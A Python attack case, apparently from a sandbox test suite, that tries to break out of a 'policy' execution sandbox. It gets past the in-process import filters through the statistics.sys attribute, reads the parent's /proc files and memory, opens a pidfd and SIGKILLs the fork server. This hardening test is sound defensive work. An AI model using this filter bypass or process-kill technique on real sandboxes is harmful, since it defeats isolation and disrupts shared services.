"""ATTACK: find the fork server and kill it: its PID is getppid(); look it up in /proc
(status, environ, mem), open a pidfd for it, signal it through the pidfd and finally
SIGKILL it with kill(). The zygote must survive, and the next program must be forked from
it as before (x32 tries ptrace and reading its memory)."""

import statistics

# statistics.sys is a public attribute, so the static filter sees no forbidden import or name
# and the runtime import guard is never asked: both in-process filters are bypassed.
_sys = statistics.sys
os = _sys.modules["os"]
ctypes = _sys.modules["ctypes"]
signal = _sys.modules["signal"]

_report = []


def _try(name, fn):
    try:
        _report.append(f"{name}={fn()!r}"[:60])
    except BaseException as e:
        _report.append(f"{name}:{type(e).__name__}")


def policy(obs):
    ppid = os.getppid()
    for part in ("status", "environ", "mem"):
        _try(part, lambda p=part: open(f"/proc/{ppid}/{p}", "rb").read(64))
    libc = ctypes.CDLL(None, use_errno=True)
    _try("pidfd_open", lambda: (libc.syscall(434, ppid, 0), ctypes.get_errno()))
    _try("pidfd_send_signal", lambda: (libc.syscall(424, 3, signal.SIGKILL, None, 0), ctypes.get_errno()))
    os.kill(ppid, signal.SIGKILL)
    raise RuntimeError("; ".join(_report))
